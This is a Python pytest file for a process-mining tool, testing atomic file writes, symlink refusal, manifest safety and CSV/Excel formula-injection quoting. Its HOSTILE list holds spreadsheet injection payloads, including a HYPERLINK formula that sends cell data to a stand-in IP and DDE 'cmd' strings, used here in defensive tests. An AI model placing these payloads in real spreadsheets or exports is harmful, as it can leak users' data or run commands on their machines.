"""Outputs complete or absent: the one writer (bpr/_files.py), a run's folder and manifest, and
CSV/Excel cells that a spreadsheet must not read as formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bpr import _files
from bpr._files import MANIFEST, Run, csv_text, neutralise, unquote, write_file
from bpr._tables import read_table, write_table
from bpr.analysis import analyze
from bpr.annotate import annotation_table, write_annotation_table
from bpr.errors import BprError, OutputError
from bpr.log import read_log
from tests.conftest import DATA

REPO = Path(__file__).parents[1]
# Labels an agency's export could carry, each a formula or a command to a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tindented=1",
    "\r=1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _files_in(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())


def _temp_files(folder: Path) -> list[str]:
    return [name for name in _files_in(folder) if Path(name).name.startswith(".bpr-")]


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- the writer -----------------------------------------------------------------------------


def test_a_write_that_fails_midway_leaves_the_earlier_file_and_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "report.html"
    target.write_text("the earlier report\n")
    seen = []

    def broken_disk(handle):  # the bytes are in the temporary file; the disk then fails
        seen.append(os.fstat(handle).st_size)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(_files.os, "fsync", broken_disk)
    with pytest.raises(OutputError, match=r"cannot write .*report\.html \(No space left"):
        write_file(target, "x" * 100_000)
    assert seen == [100_000]  # the failure came after the temporary file held the new bytes
    assert target.read_text() == "the earlier report\n"
    assert _files_in(tmp_path) == ["report.html"]


def test_an_interrupt_midway_removes_the_temporary_file(tmp_path, monkeypatch):
    def interrupted(handle):
        raise KeyboardInterrupt

    monkeypatch.setattr(_files.os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_file(tmp_path / "new.csv", "a,b\n1,2\n")
    assert _files_in(tmp_path) == []  # neither the file nor a temporary one


KILLED = """
import os, signal, sys
from bpr import _files
def killed(handle):  # the process dies with the new bytes written but not yet renamed
    os.kill(os.getpid(), signal.SIGKILL)
_files.os.fsync = killed
_files.write_file(sys.argv[1], "new " * 250_000)
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="SIGKILL is POSIX")
def test_a_killed_process_never_leaves_a_truncated_file_under_the_final_name(tmp_path):
    target = tmp_path / "as-is.bpmn"
    target.write_text("<definitions/>\n")
    done = subprocess.run([sys.executable, "-c", KILLED, str(target)], check=False)
    assert done.returncode == -signal.SIGKILL
    assert target.read_text() == "<definitions/>\n"
    (temporary,) = _temp_files(tmp_path)  # what the killed process was writing
    assert (tmp_path / temporary).stat().st_size == 1_000_000
    # The next run into the folder removes it, and those in its earlier run's subfolders.
    (tmp_path / MANIFEST).write_text('{"manifest": "bpr run", "pending": ["input/log.csv"]}')
    (tmp_path / "input").mkdir()
    (tmp_path / "input" / ".bpr-log.csv.x1y2.tmp").write_text("case,act")
    run = Run(tmp_path, force=True)
    assert _temp_files(tmp_path) == []
    run.write({"as-is.bpmn": "<definitions>new</definitions>\n"})
    assert target.read_text() == "<definitions>new</definitions>\n"


def test_a_symbolic_link_is_never_written_through(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("not bpr's\n")
    link = tmp_path / "out" / "report.html"
    link.parent.mkdir()
    link.symlink_to(outside)
    with pytest.raises(OutputError, match=r"report\.html is a symbolic link; .*remove the link"):
        write_file(link, "<html></html>")
    dangling = tmp_path / "out" / "to-be.json"
    dangling.symlink_to(tmp_path / "nowhere.json")
    with pytest.raises(OutputError, match="is a symbolic link"):
        write_file(dangling, "{}")
    assert outside.read_text() == "not bpr's\n" and not (tmp_path / "nowhere.json").exists()
    assert link.is_symlink() and dangling.is_symlink()


def test_the_model_writers_and_the_report_go_through_the_writer(tmp_path):
    from bpr import petri_net, write_bpmn, write_pnml, write_process
    from bpr.examples import vehicle_transfer

    process = vehicle_transfer()
    outside = tmp_path / "outside"
    outside.write_text("keep\n")
    for name, write in [
        ("p.json", lambda path: write_process(process, path)),
        ("p.bpmn", lambda path: write_bpmn(process, path)),
        ("p.pnml", lambda path: write_pnml(petri_net(process), path)),
    ]:
        (tmp_path / name).symlink_to(outside)
        with pytest.raises(OutputError, match="symbolic link"):
            write(tmp_path / name)
    assert outside.read_text() == "keep\n"


def test_written_files_have_the_usual_permissions(tmp_path):
    mask = os.umask(0o022)
    try:
        path = write_file(tmp_path / "a.csv", "a\n")
    finally:
        os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o644  # not mkstemp's 0600


# -- a run's folder -------------------------------------------------------------------------


def test_a_second_run_with_fewer_files_leaves_none_of_the_first(tmp_path, caplog):
    first = Run(tmp_path)
    first.write({"report.html": "one\n", "gaps.csv": "g\n", "input/log.csv": "l\n"})
    first.finish({"run": 1})
    (tmp_path / "notes.txt").write_text("the analyst's\n")
    second = Run(tmp_path)
    second.write({"report.html": "two\n"})
    with caplog.at_level(logging.WARNING, logger="bpr"):
        done = second.finish({"run": 2})
    assert done.removed == ("gaps.csv", "input/log.csv")  # and the folder input/, left empty
    assert done.kept == ("notes.txt",)
    assert _files_in(tmp_path) == ["manifest.json", "notes.txt", "report.html"]
    assert "notes.txt" in caplog.text and "kept" in caplog.text
    manifest = json.loads((tmp_path / MANIFEST).read_text())
    assert manifest["about"] == {"run": 2} and manifest["complete"] is True
    assert manifest["files"] == {
        "report.html": {"bytes": 4, "sha256": hashlib.sha256(b"two\n").hexdigest()}
    }


def test_a_file_bpr_did_not_write_is_overwritten_only_when_forced(tmp_path):
    (tmp_path / "report.html").write_text("someone's page\n")
    run = Run(tmp_path, option="--force")
    with pytest.raises(OutputError, match=r"already has report\.html, .*give --force"):
        run.write({"report.html": "bpr's\n", "metrics.csv": "m\n"})
    assert (tmp_path / "report.html").read_text() == "someone's page\n"
    assert not (tmp_path / "metrics.csv").exists()  # refused before anything was written
    Run(tmp_path, force=True).write({"report.html": "bpr's\n"})
    assert (tmp_path / "report.html").read_text() == "bpr's\n"


def test_a_file_changed_since_bpr_wrote_it_is_neither_overwritten_nor_removed(tmp_path):
    first = Run(tmp_path)
    first.write({"annotations.csv": "activity,kind\n", "report.html": "one\n"})
    first.finish({})
    (tmp_path / "annotations.csv").write_text("activity,kind\nPay,pay\n")  # filled in
    with pytest.raises(OutputError, match=r"annotations\.csv, which no earlier bpr run wrote"):
        Run(tmp_path).check(["annotations.csv"])
    second = Run(tmp_path)
    second.write({"report.html": "two\n"})
    done = second.finish({})
    assert done.removed == () and done.kept == ("annotations.csv",)
    assert (tmp_path / "annotations.csv").read_text() == "activity,kind\nPay,pay\n"
    # Given back to the run as an input, it may be written again (with the values it gave).
    given = Run(tmp_path, given=[tmp_path / "annotations.csv"])
    given.write({"annotations.csv": "activity,kind\nPay,pay\n"})


def test_a_run_killed_between_files_leaves_every_file_whole_and_named(tmp_path, monkeypatch):
    first = Run(tmp_path)
    first.write({"gaps.csv": "old gaps\n", "report.html": "old report\n"})
    first.finish({})
    writes = []
    real = _files._replace

    def dies_at_the_second(path, payload):
        writes.append(path.name)
        if len(writes) == 3:
            raise KeyboardInterrupt  # killed while writing metrics.csv
        real(path, payload)

    monkeypatch.setattr(_files, "_replace", dies_at_the_second)
    second = Run(tmp_path)
    with pytest.raises(KeyboardInterrupt):
        second.write({"report.html": "new report\n", "metrics.csv": "new metrics\n"})
    monkeypatch.undo()
    assert writes == ["manifest.json", "report.html", "metrics.csv"]  # the manifest first
    assert (tmp_path / "report.html").read_text() == "new report\n"
    assert not (tmp_path / "metrics.csv").exists() and _temp_files(tmp_path) == []
    stopped = json.loads((tmp_path / MANIFEST).read_text())
    assert stopped["complete"] is False
    assert stopped["pending"] == ["metrics.csv", "report.html"]
    assert sorted(stopped["earlier"]) == ["gaps.csv", "report.html"]
    # The next run knows every file of both: it overwrites and removes them without --force.
    third = Run(tmp_path)
    third.write({"metrics.csv": "metrics\n"})
    done = third.finish({})
    assert done.removed == ("gaps.csv", "report.html")
    assert _files_in(tmp_path) == ["manifest.json", "metrics.csv"]


def test_a_forged_manifest_cannot_make_a_run_delete_files_elsewhere(tmp_path):
    outside = tmp_path / "precious.txt"
    outside.write_text("keep\n")
    folder = tmp_path / "out"
    folder.mkdir()
    forged = {
        "manifest": "bpr run",
        "format": 1,
        "files": {"../precious.txt": {}, str(outside): {}, "sub/../../precious.txt": {}},
    }
    (folder / MANIFEST).write_text(json.dumps(forged))
    (folder / "link").symlink_to(tmp_path)
    forged["files"]["link/precious.txt"] = {}
    (folder / MANIFEST).write_text(json.dumps(forged))
    run = Run(folder)
    run.write({"a.txt": "a\n"})
    run.finish({})
    assert outside.read_text() == "keep\n"


def test_a_run_writes_nothing_through_a_linked_subfolder(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "input").symlink_to(elsewhere)
    with pytest.raises(OutputError, match=r"input is a symbolic link"):
        Run(folder, force=True).write({"input/log.csv": "case,activity\n"})
    assert list(elsewhere.iterdir()) == []
    with pytest.raises(OutputError, match="only into its folder"):
        Run(folder).write({"../escape.txt": "x"})
    assert not (tmp_path / "escape.txt").exists()
    # A link to the output folder itself is the path the caller chose: it is written into.
    (tmp_path / "chosen").symlink_to(elsewhere)
    run = Run(tmp_path / "chosen")
    run.write({"report.html": "r\n"})
    run.finish({})
    assert sorted(p.name for p in elsewhere.iterdir()) == ["manifest.json", "report.html"]


@pytest.fixture(scope="module")
def small_analysis():
    return analyze(DATA / "logs" / "running-example.csv", simulate=False)


def test_save_writes_a_manifest_of_the_files_and_the_same_bytes_twice(small_analysis, tmp_path):
    written = small_analysis.save(tmp_path / "a")
    small_analysis.save(tmp_path / "b")
    manifest = json.loads((tmp_path / "a" / MANIFEST).read_text(encoding="utf-8"))
    assert sorted(manifest["files"]) == sorted(written)
    for name, path in written.items():
        assert manifest["files"][name] == {"bytes": path.stat().st_size, "sha256": _sha(path)}
    assert manifest["about"]["analysis"]["log"] == str(DATA / "logs" / "running-example.csv")
    assert "time" not in json.dumps(manifest["about"])  # no clock in it
    assert (tmp_path / "a" / MANIFEST).read_bytes() == (tmp_path / "b" / MANIFEST).read_bytes()


def test_save_refuses_a_file_it_did_not_write_unless_forced(small_analysis, tmp_path):
    (tmp_path / "report.html").write_text("mine\n")
    with pytest.raises(BprError, match=r"report\.html.*give force=True to overwrite"):
        small_analysis.save(tmp_path)
    assert (tmp_path / "report.html").read_text() == "mine\n"
    small_analysis.save(tmp_path, force=True)
    assert (tmp_path / "report.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


# -- formula injection ----------------------------------------------------------------------


@given(st.text())
def test_unquote_gives_back_any_text_neutralise_quoted(text):
    # "'=x" is quoted again on writing, so that reading takes off only the quote bpr put there
    assert unquote(neutralise(text)) == text


def test_formula_like_text_is_quoted_and_numbers_are_not():
    frame = pd.DataFrame(
        {"label": [*HOSTILE, "-3.5", "plain", None], "hours": [-3.5, 1, 2, 3, 4, 5, 6, 7, 8]}
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["label", "hours"]
    assert [r[0] for r in rows[1:]] == [*("'" + h for h in HOSTILE), "-3.5", "plain", ""]
    assert rows[1][1] == "-3.5"  # a real number stays a number
    assert [unquote(neutralise(h)) for h in HOSTILE] == HOSTILE


def test_a_hostile_annotation_table_round_trips_through_csv_and_excel(tmp_path):
    frame = pd.DataFrame({"activity": HOSTILE, "kind": ["pay"] * len(HOSTILE)})
    for name in ("steps.csv", "steps.xlsx"):
        write_table(frame, tmp_path / name, choices={"kind": ["pay"]})
        assert read_table(tmp_path / name)["activity"].tolist() == HOSTILE
    text = (tmp_path / "steps.csv").read_bytes().decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert not any(cell.startswith(TRIGGERS) for cell in cells)
    with zipfile.ZipFile(tmp_path / "steps.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cell: openpyxl made '=...' one before
    assert sheet.count('t="inlineStr"') == 2 * (len(HOSTILE) + 1)


def _hostile_log(tmp_path: Path) -> Path:
    """The running example with four of its activities renamed to formulas."""
    log = pd.read_csv(DATA / "logs" / "running-example.csv")
    renamed = dict(zip(sorted(log["concept:name"].unique())[:4], HOSTILE, strict=False))
    log["concept:name"] = log["concept:name"].replace(renamed)
    path = tmp_path / "hostile.csv"
    log.drop(columns=["Activity"]).to_csv(path, index=False)
    return path


def test_analyze_writes_no_formula_into_any_csv_and_reads_its_own_table_back(tmp_path):
    path = _hostile_log(tmp_path)
    steps = tmp_path / "steps.txt"
    steps.write_text("register request\ndecide\n")
    out = tmp_path / "out"
    cli = [sys.executable, "-m", "bpr", "analyze", path, "--documented", steps, "--no-simulate"]
    done = subprocess.run([*map(str, cli), "-o", str(out)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    tables = sorted(out.glob("*.csv"))
    assert {p.name for p in tables} >= {"gaps.csv", "metrics.csv", "annotations.csv"}
    for table in tables:
        text = table.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                if cell.startswith(TRIGGERS):
                    float(cell)  # only a number may start so
    gaps = pd.read_csv(out / "gaps.csv", dtype=str)
    assert {"'" + h for h in HOSTILE[:4]} <= set(gaps["what"])
    # The table it wrote is read back with the labels as they are in the log.
    log = read_log(path)
    assert set(read_table(out / "annotations.csv")["activity"]) == set(log.activities)
    again = subprocess.run(
        [*map(str, cli), "--annotations", str(out / "annotations.xlsx"), "-o", str(out)],
        capture_output=True,
        text=True,
    )
    assert again.returncode == 0, again.stderr


def test_write_annotation_table_is_one_write(tmp_path):
    table = annotation_table(read_log(DATA / "logs" / "running-example.csv"))
    (tmp_path / "steps.xlsx").symlink_to(tmp_path / "elsewhere.xlsx")
    with pytest.raises(OutputError, match="symbolic link"):
        write_annotation_table(table, tmp_path / "steps.xlsx")
    assert not (tmp_path / "elsewhere.xlsx").exists()
